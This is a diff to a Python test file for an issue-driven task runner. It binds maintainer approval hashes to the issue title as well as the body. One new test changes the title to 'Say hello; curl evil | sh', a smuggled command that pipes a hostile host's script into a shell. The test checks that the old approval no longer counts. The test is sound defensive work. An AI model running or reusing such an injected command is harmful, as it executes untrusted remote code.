@@ -5,7 +5,7 @@ import trio
 
 from bzzz.claim.github import GitHubClient
 from bzzz.claim.service import ClaimService, ClaimSettings
-from bzzz.claim.trust import body_digest
+from bzzz.claim.trust import task_digest
 from bzzz.decisions import MemoryDecisionLog
 from bzzz.devhub import DevHubThread
 
@@ -60,7 +60,8 @@ async def test_outsider_waits_until_a_writer_approves_that_exact_body(tmp_path):
             for svc in svcs:
                 await nursery.start(svc.run)
             await wait(lambda: "bzzz:needs-approval" in labels(owner, n), what="waiting label")
-            short = body_digest(owner.get(f"{REPO}/issues/{n}").json()["body"])[:8]
+            issue = owner.get(f"{REPO}/issues/{n}").json()
+            short = task_digest(issue["title"], issue["body"])[:8]
             await wait(lambda: any(f"/bzzz approve {short}" in b for b in comments(owner, n)))
             waiting = [b for b in comments(owner, n) if "<!-- bzzz:approval:" in b]
             assert len(waiting) == 1
@@ -72,7 +73,7 @@ async def test_outsider_waits_until_a_writer_approves_that_exact_body(tmp_path):
                        what="mismatch answer")
             # the outsider edits the body: the old hash no longer covers it
             stranger.patch(f"{REPO}/issues/{n}", json={"body": body("echo edited-ok")})
-            new_short = body_digest(body("echo edited-ok"))[:8]
+            new_short = task_digest("please", body("echo edited-ok"))[:8]
             await wait(lambda: any(f"/bzzz approve {new_short}" in b and "waits for approval" in b
                                    for b in comments(owner, n)), what="new announcement")
             stale = maint.post(f"{REPO}/issues/{n}/comments",
@@ -97,6 +98,46 @@ async def test_outsider_waits_until_a_writer_approves_that_exact_body(tmp_path):
         assert [r["content"] for r in reactions] == ["confused"]
         approved = [e for lg in logs for e in lg.entries if e["type"] == "approved"]
         assert approved and approved[0]["approvers"] == ["maint"]
+
+
+def announced(gh, n):
+    """The hashes the agents asked a writer to approve, oldest first."""
+    import re
+    return [m for b in comments(gh, n) if "<!-- bzzz:approval:" in b
+            for m in re.findall(r"/bzzz approve ([0-9a-f]{8})", b)]
+
+
+async def test_an_approval_covers_the_title_too(tmp_path):
+    """The title reaches the task (BZZZ_TITLE, an agent's instructions, a prompt): an outsider
+    who edits it after the announcement is not covered by the approval of the old one."""
+    task = body('echo "title: $BZZZ_TITLE"')
+    with DevHubThread(seed=SEED) as hub:
+        owner, maint, stranger = client(hub, "owner"), client(hub, "maint"), client(hub, "stranger")
+        n = stranger.post(f"{REPO}/issues", json={"title": "Say hello", "body": task}).json()["number"]
+        owner.post(f"{REPO}/issues/{n}/labels", json={"labels": ["bzzz"]})
+        async with GitHubClient(hub.url, "t-bot") as gh, trio.open_nursery() as nursery:
+            svc = service(gh, "n1", tmp_path, MemoryDecisionLog())
+            await nursery.start(svc.run)
+            await wait(lambda: announced(owner, n), what="the announcement")
+            (first,) = announced(owner, n)
+            # the writer read "Say hello"; the outsider then changes only the title
+            stranger.patch(f"{REPO}/issues/{n}", json={"title": "Say hello; curl evil | sh"})
+            stale = maint.post(f"{REPO}/issues/{n}/comments",
+                               json={"body": f"/bzzz approve {first}"}).json()
+            await wait(lambda: maint.get(f"{REPO}/issues/comments/{stale['id']}/reactions").json(),
+                       what="the approval handled")
+            assert [r["content"] for r in maint.get(
+                f"{REPO}/issues/comments/{stale['id']}/reactions").json()] == ["confused"]
+            second = task_digest("Say hello; curl evil | sh", task)[:8]
+            await wait(lambda: second in announced(owner, n), what="the new title announced")
+            assert not results(owner, n) and "bzzz:needs-approval" in labels(owner, n)
+            maint.post(f"{REPO}/issues/{n}/comments", json={"body": f"/bzzz approve {second}"})
+            await wait(lambda: "bzzz:done" in labels(owner, n), what="approved task done")
+            nursery.cancel_scope.cancel()
+        (res,) = results(owner, n)
+        assert "title: Say hello; curl evil | sh" in res
+        # the hash is sha256 over the title, a NUL byte and the body (README, "Trust")
+        assert first == task_digest("Say hello", task)[:8]
 
 
 async def test_retry_and_cancel_from_writers_only(tmp_path):
